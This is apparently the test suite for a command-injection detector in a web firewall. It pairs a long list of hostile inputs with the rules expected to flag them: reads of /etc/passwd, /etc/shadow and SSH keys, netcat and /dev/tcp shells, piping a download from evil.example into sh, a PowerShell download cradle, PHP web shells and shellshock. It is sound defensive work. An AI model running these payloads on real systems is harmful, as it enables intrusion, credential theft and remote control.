import { test } from 'node:test'
import assert from 'node:assert/strict'
import { analyzeCmdi, analyzeCmdiAgent, shellWord } from '../../src/detection/cmdi/analyzer.js'
import { globSegment, globTarget } from '../../src/detection/cmdi/glob.js'
import { batchFor, batchIf } from '../../src/detection/cmdi/windows.js'
import { mailCommand } from '../../src/detection/cmdi/mail.js'
import { surest } from './support.js'

test('shell words are read the way the shell reads them', () => {
  assert.equal(shellWord("w'h'o'am'i"), 'whoami')
  assert.equal(shellWord('c\\at'), 'cat')
  assert.equal(shellWord('/bin/ca""t'), 'cat')
  assert.equal(shellWord('C:\\Windows\\System32\\cmd.exe'), 'cmd')
  assert.equal(shellWord('$@i$9d'), 'id')
  // unset variables, special parameters and empty substitutions expand to nothing
  assert.equal(shellWord('wg$x$!e$()t'), 'wget')
  assert.equal(shellWord('n${z}c'), 'nc')
  assert.equal(shellWord("$'uname'"), 'uname')
  // a one-character class, a versioned binary, the shell in a variable
  assert.equal(shellWord('/usr/bin/[w]hoami'), 'whoami')
  assert.equal(shellWord('python3.11'), 'python')
  assert.equal(shellWord('${SHELL}'), 'sh')
})

test('globs are expanded against what an attacker aims at, one segment at a time', () => {
  assert.ok(globSegment('c?t', 'cat'))
  assert.ok(globSegment('[!x]asswd', 'passwd'))
  assert.ok(globSegment('[a-c]in', 'bin'))
  assert.ok(globSegment('*wd', 'passwd'))
  assert.ok(!globSegment('[!p]asswd', 'passwd'))
  assert.ok(globTarget('/e?c/sh*ow'))
  assert.ok(globTarget('/???/?c'))
  assert.ok(!globTarget('/usr/bin/*'), 'a directory listing hides no name')
  assert.ok(!globTarget('/*/*'))
  assert.ok(!globTarget('/docs/?s'), 'a URL path with a query is no glob')
})

const attacks: [string, string, number][] = [
  // separator, pipe or substitution followed by a command
  ['; id', 'cmdi-separator', 0.85],
  ['| whoami', 'cmdi-separator', 0.85],
  ['&& cat /etc/passwd', 'cmdi-separator', 0.85],
  ['127.0.0.1; ls -la', 'cmdi-separator', 0.85],
  ['x\nuname -a', 'cmdi-separator', 0.85],
  ['$(whoami)', 'cmdi-substitution', 0.9],
  ['`cat /etc/passwd`', 'cmdi-substitution', 0.9],
  [';c\\at${IFS}/etc/passwd', 'cmdi-separator', 0.85],
  [";w'h'o'am'i", 'cmdi-separator', 0.85],
  [';/???/c?t /etc/passwd', 'cmdi-separator', 0.85],
  [';{cat,/etc/passwd}', 'cmdi-separator', 0.85],
  ['| ping -n 10 127.0.0.1', 'cmdi-separator', 0.85],
  ['& net user hacker P@ss /ADD', 'cmdi-separator', 0.85],
  ['() { :;}; /bin/bash -c "id"', 'cmdi-shellshock', 0.95],
  ['() {', 'cmdi-shellshock', 0.95],
  ['<!--#exec cmd="/bin/cat /etc/shadow"-->', 'cmdi-ssi', 0.95],
  ["eval('sleep 5')", 'cmdi-substitution', 0.8],
  // obfuscated command words: quotes, unset variables, empty substitutions
  ['host.example;un$@ame -a', 'cmdi-separator', 0.85],
  ['q=1;$u wget evil.example', 'cmdi-separator', 0.85],
  ['$(id$())', 'cmdi-substitution', 0.9],
  ['x=1`uname`', 'cmdi-substitution', 0.9],
  ['${`id`}', 'cmdi-substitution', 0.9],
  ['data <(cat ~/.ssh/id_rsa)', 'cmdi-substitution', 0.9],
  ['echo | ${nothing}nc7.1 -e x', 'cmdi-separator', 0.85],
  // variables and aliases that name a command
  ['t=nc;$t -lvp 4444', 'cmdi-separator', 0.85],
  ['alias x=wget&x evil.example', 'cmdi-command-line', 0.85],
  ['alias -p q="nc"', 'cmdi-command-line', 0.85],
  // pipes into a shell, here-strings, command strings
  ['printf pwnd | base64 -d | sh', 'cmdi-separator', 0.85],
  ['a;head<<<uname', 'cmdi-separator', 0.85],
  [";trap 'curl -s evil.example|sh' EXIT", 'cmdi-separator', 0.85],
  ['1;.shell uname -a', 'cmdi-separator', 0.85],
  // the whole value as a command line with something an attacker aims at
  ['tail -n 5 /etc/shadow', 'cmdi-command-line', 0.85],
  ['nc -lvp 9001 -e /bin/sh', 'cmdi-command-line', 0.85],
  ['exec 3<>/dev/tcp/10.0.0.1/4444', 'cmdi-command-line', 0.85],
  ['/usr/local/bin/ruby -rsocket x', 'cmdi-command-line', 0.85],
  ['sh -c hostname', 'cmdi-command-line', 0.85],
  ["php -r 'system($_GET[1]);'", 'cmdi-command-line', 0.85],
  ['uname -r', 'cmdi-command-line', 0.85],
  ['sbin/ifconfig -a', 'cmdi-command-line', 0.85],
  ['whoami;', 'cmdi-command-line', 0.85],
  ['ipconfig /displaydns', 'cmdi-command-line', 0.85],
  ['nohup netstat -tulpn', 'cmdi-command-line', 0.85],
  ["'nets'tat -an", 'cmdi-command-line', 0.85],
  ['ge$()t /etc/hosts', 'cmdi-glob', 0], // not a command: only the glob rule may speak, and it does not
  ['{,uname,-a}', 'cmdi-command-line', 0.85],
  ['h{e,x}ad /etc/hosts', 'cmdi-command-line', 0.85],
  ['echo "<?php passthru($_GET[0]) ?>" > s.php', 'cmdi-command-line', 0.85],
  ['type C:\\Windows\\win.ini', 'cmdi-command-line', 0.85],
  ['reg query "HKLM\\Software\\Microsoft" /s', 'cmdi-command-line', 0.85],
  ['name=nohup id', 'cmdi-command-line', 0.85],
  // globs that spell a sensitive file
  ['/???/??n/pyth?n3 -V', 'cmdi-command-line', 0.85],
  ['head /e?c/pa[s]swd', 'cmdi-glob', 0.85],
  ['/etc/[!x]hadow', 'cmdi-command-line', 0.85],
  // cmd.exe control flow and PowerShell
  ['for /f "tokens=*" %a in (\'whoami\') do echo %a', 'cmdi-command-line', 0.85],
  ['& FOR %x IN (1,2) DO ping -n 2 %x', 'cmdi-separator', 0.85],
  ['if exist C:\\boot.ini type C:\\boot.ini', 'cmdi-command-line', 0.85],
  ['IF "%USERNAME%"=="admin" (del x)', 'cmdi-command-line', 0.85],
  ['if /i not errorlevel 1 goto done', 'cmdi-command-line', 0.85],
  ['Invoke-WebRequest -Uri http://evil.example/a.ps1', 'cmdi-command-line', 0.85],
  ['x;iex (New-Object Net.WebClient).DownloadString(1)', 'cmdi-separator', 0.85],
  // PHP's backtick operator, PHP code evaluated from a string
  ['<?=`$_GET[0]`?>', 'cmdi-substitution', 0.9],
  ['x{${system(id)}}', 'cmdi-php-eval', 0.85],
  ['${@eval($_POST[1])}', 'cmdi-php-eval', 0.85],
  ['| phpversion();', 'cmdi-php-eval', 0.85],
  // '+' for spaces, decoded once too often
  ['a=1+&&+uname+-a', 'cmdi-separator', 0.85],
  ['<?=2;echo 7;', 'cmdi-separator', 0.85],
  // mail protocol commands after a line break
  ['\r\nRCPT TO:<victim@example.com>', 'cmdi-mail', 0.85],
  ['subject\r\nMAIL FROM:<x@example.com>', 'cmdi-mail', 0.85],
  ['\r\nA7 FETCH 1:* (FLAGS)', 'cmdi-mail', 0.85],
  ['\nRETR 1', 'cmdi-mail', 0.85],
]

test('command injection: attacks are found', () => {
  for (const [value, rule, confidence] of attacks) {
    const f = surest(analyzeCmdi, value, false)
    if (confidence === 0) {
      assert.ok(f === null || f.confidence < 0.8, `${value}: ${JSON.stringify(f)}`)
      continue
    }
    assert.ok(f !== null, `missed: ${value}`)
    assert.equal(f.rule, rule, value)
    assert.ok(f.confidence >= confidence, `${value}: ${f.confidence}`)
  }
})

// English has "cat", "find", "time", "more", "for" and "if"; prose, code and data must pass.
const benign = [
  'data:image/png;base64,iVBORw0KGgo/AAAA+bbb/ccc',
  'Tom & Jerry',
  'dogs; cat food',
  'salt & pepper',
  'A | B testing',
  'R&D team',
  'AT&T',
  'Q&A: how do I list files?',
  'meet at 5; sleep well',
  'echo chamber',
  'my id is 42',
  'John & Mary; id card',
  'cost: $(5)',
  'rock & roll; jazz',
  'Day 1; sleep 8 hours',
  'cats; more & more',
  'pros; cons and/or risks',
  'time who knows',
  'time flies like an arrow',
  'for each item in (list) do something',
  'if you want, call me',
  'If defined by the user, the value is used',
  'if a == b then return',
  'if (a == b) { return 1 }',
  'if ($a == $b) echo "yes";',
  'if x==y: print(x)',
  'for 50% in (cash) do nothing',
  'type c:\\windows\\notepad.exe to open it',
  'Type C:\\ in the box',
  "O'Brien",
  "O''Brien",
  "it's",
  "don't; stop",
  '/?s=hello',
  '/blog/?p=12',
  '/usr/bin/*',
  '{id,name}',
  '{id,}',
  'file{1,2}.txt',
  'user=alice; pass=x',
  'price=$5; tax=$1',
  'alias: John',
  'alias john=smith',
  'Run `npm install` first',
  'The `id` field',
  'Call `ls -la` to list',
  '<(^_^)>',
  'a > (b + c)',
  'C:\\Users\\bob\\Documents\\report.docx',
  'Path: /usr/bin/python3',
  '/usr/bin/python3',
  'ls -la',
  'cd ..',
  'git commit -m "fix"',
  'npm run build && npm test',
  'cat README.md',
  'rm -rf node_modules',
  'python -m venv .venv',
  'bash -c "npm run build"',
  'node -e "console.log(1)"',
  'echo hi > out.txt',
  'FOR /L loops are cool',
  'if %1 is empty',
  'Invoke-WebRequest is slow',
  '() => { x }',
  'function() { return 1 }',
  'A4 copy paper',
  '\r\nData',
  '\nQuit smoking',
  'Hello\nDATA',
  'x\na1 list of things',
  'Dear team,\nRETR 5 items',
  'chmod +x script.sh',
  'id;name;email',
  'id|name|email',
  'sort=id;desc',
  'hostname;port',
  'fields=id;name',
  'Shell: bash | sh',
  'bash | sh | zsh',
  '1 | sh',
  'Languages: Java; Perl 5; PHP 8',
  'R&D; gcc (GNU) 13',
  'If exist on disk, skip',
  'if not defined in config, set it',
  'If errorlevel is high, call me',
  "I'd like a refund",
  "Thanks; I'd love to",
  "ok | I'd say",
  "it's ok; I'd",
  "P'S",
  "W'ho",
  "n'c",
  'the /etc/hosts file',
  'phpinfo() shows the config',
  'Tip: phpinfo() lists modules',
  'const s = `${user.name(1)}`',
  'C++ & Java; more+ideas',
  'edit /etc/hosts with sudo',
  'size: 8"x11"',
  'e-mail: me@x.com',
  'head -> tail',
  '`ls`',
]

test('command injection: prose, code and data pass; markdown `ls` scores low', () => {
  for (const value of benign) {
    const f = surest(analyzeCmdi, value, false)
    assert.ok(f === null || f.confidence < 0.8, `${value}: ${JSON.stringify(f)}`)
  }
  assert.ok(analyzeCmdi('Use the `ls` command')!.confidence < 0.8)
  // weaker signals count at higher paranoia only
  assert.equal(analyzeCmdi('bash -c "deploy --prod"')?.confidence, 0.7)
  assert.equal(analyzeCmdi('ls -l /etc/x y')?.confidence, 0.85)
  assert.equal(analyzeCmdi('grep -r foo /usr/share')?.confidence, 0.6)
})

test('cmd.exe control flow needs its batch shape', () => {
  assert.ok(batchFor('for %%G in (*.txt) do type %%G'))
  assert.ok(batchFor('FOR /D /R C:\\x %d IN (*) DO echo %d'))
  assert.ok(!batchFor('for a while in (the meantime) do nothing'))
  assert.ok(batchIf('if not defined X set X=1'))
  assert.ok(batchIf('IF [%1]==[] goto usage'))
  assert.ok(batchIf('if 3 GEQ 2 echo y'))
  assert.ok(!batchIf('if not defined, it is empty'))
  assert.ok(!batchIf('if x == y then z'))
})

test('mail protocol commands need the protocol shape on a line of their own', () => {
  assert.ok(mailCommand('\r\nEHLO evil.example'))
  assert.ok(mailCommand('body=\r\nQUIT'))
  assert.ok(mailCommand('\nAPOP bob c4c9334bac560ecc979e58001b3e22fb'))
  assert.ok(!mailCommand('\r\nQuit'))
  assert.ok(!mailCommand('Hello\r\nHELP me please'))
})

test('command analysis stays linear on long adversarial input', () => {
  const shapes = [
    ';'.repeat(200_000),
    '`'.repeat(200_000),
    '$('.repeat(100_000),
    '/???'.repeat(50_000),
    '; cat'.repeat(40_000),
    '{a,'.repeat(60_000),
    'a=b '.repeat(50_000),
    ' $x'.repeat(60_000),
    '\n'.repeat(200_000),
    'if '.repeat(60_000),
    'for /d '.repeat(30_000),
    '/[!a-'.repeat(40_000),
    ';$()'.repeat(50_000),
    '; time'.repeat(30_000),
    '%%a in ('.repeat(20_000),
    'cat x |'.repeat(30_000),
    'a |'.repeat(60_000),
  ]
  for (const v of shapes) {
    const t = performance.now()
    analyzeCmdi(v)
    assert.ok(performance.now() - t < 2000, v.slice(0, 8))
  }
})

test('URL paths: endpoints named like commands pass (/id, /whoami); separators in a path still block', async () => {
  const { createEngine } = await import('../../src/detection/engine.js')
  const engine = createEngine({ paranoia: 1 })
  const path = (value: string) => engine.inspect([{ location: 'path', name: '', value, formEncoded: false }], null, true).findings.map((f) => f.rule)
  for (const ok of ['/id', '/whoami', '/users/whoami', '/api/uname', '/v1/ping']) assert.deepEqual(path(ok), [], ok)
  assert.ok(path('/ping/127.0.0.1;cat /etc/passwd').length > 0)
  assert.ok(path('/run/$(whoami)').length > 0)
  // The same words as a whole query value are still command lines.
  assert.equal(analyzeCmdi('whoami')?.rule, 'cmdi-command-line')
})

test('command injection: globs padded with slashes, editors running shell commands, a download as the whole value', () => {
  const rule = (value: string) => {
    const f = surest(analyzeCmdi, value, false)
    return f !== null && f.confidence >= 0.8 ? f.rule : null
  }
  // brackets padded with '/' still expand to /etc/passwd
  assert.equal(rule('cat /[e//]tc/[p//]asswd'), 'cmdi-glob')
  assert.ok(globTarget('/[e/////]tc/[p//]asswd'))
  assert.ok(!globTarget('/[a-z//]/x'), 'a class alone names nothing')
  // vi/vim/ex with a `+cmd` or `-c cmd` that is a shell escape
  assert.equal(rule(';vim dddd +silent\\ \\!whoami +wq'), 'cmdi-separator')
  assert.equal(rule('vi -c ":!id" x'), 'cmdi-command-line')
  // wget/curl of a URL, alone or with options and an output file
  assert.equal(rule('wget http://evil.example/x.sh'), 'cmdi-command-line')
  assert.equal(rule('curl -o /tmp/x https://evil.example/x.sh'), 'cmdi-command-line')
  assert.equal(rule('curl -fsSL "https://evil.example/i.sh" -o i.sh'), 'cmdi-command-line')
  // look-alikes: the words in prose, an editor without a shell escape, a URL in a sentence
  for (const ok of [
    'vim +10 notes.txt',
    'use vim -c "set nu" to number lines',
    'I love curl',
    'curl and wget are tools',
    'curl https://example.com is how I test it',
    'wget is on the server',
    'see [a-z]/[0-9] ranges',
    'wow!',
  ])
    assert.equal(rule(ok), null, ok)
})

test('command injection: a User-Agent that is a command line, not product tokens', () => {
  for (const ua of ['env --version', 'set -o history', 'ansible all -m ping', "'cscli' alerts list", 'chef-client -t 1.1.1.1'])
    assert.equal(analyzeCmdiAgent(ua)?.rule, 'cmdi-command-line', ua)
  for (const ua of [
    'Mozilla/5.0 (X11; Linux x86_64) Firefox/124.0',
    'curl/8.4.0',
    'MyApp 1.2.3',
    'Chef report bot',
    'Python urllib',
    'Java HTTP Client',
    'Slackbot 1.0 (+https://api.slack.com/robots)',
    'Mediapartners-Google',
    'Screaming Frog SEO Spider',
    'env',
    'wget',
  ])
    assert.equal(analyzeCmdiAgent(ua), null, ua)
})

test("cmdi: a substitution runs what the shell would run, and the shell's command names are case-sensitive", () => {
  for (const value of ['x`whoami`', '$(cat /etc/passwd)', 'a`id`b', '$(/usr/bin/id)']) {
    assert.equal(analyzeCmdi(value)?.rule, 'cmdi-substitution', value)
  }
  // generated passwords: `Su` and `W` are no commands to a Unix shell
  for (const value of ['Z5H|Z.T8In`Su', 'bmY8$Sz]SKRK`W`:', 'a`Su`b', 'j5i..`W>JZMLcFbaDLsi9c`0']) {
    assert.equal(analyzeCmdi(value), null, value)
  }
})

test('cmdi: a one-letter command after a separator is no evidence; a real one is', () => {
  for (const value of [';id', 'a|whoami', '; ps', ';uname -a']) assert.equal(analyzeCmdi(value)?.rule, 'cmdi-separator', value)
  // generated passwords holding `;w`, `|w`, `&w`
  for (const value of ['e|z+<pFP"l1ULd8;w', 'pzppog&w;F*=$8l|cM', 'I;I]]9N*JS|w', '%5sA1wI]"K:;w']) assert.equal(analyzeCmdi(value), null, value)
})
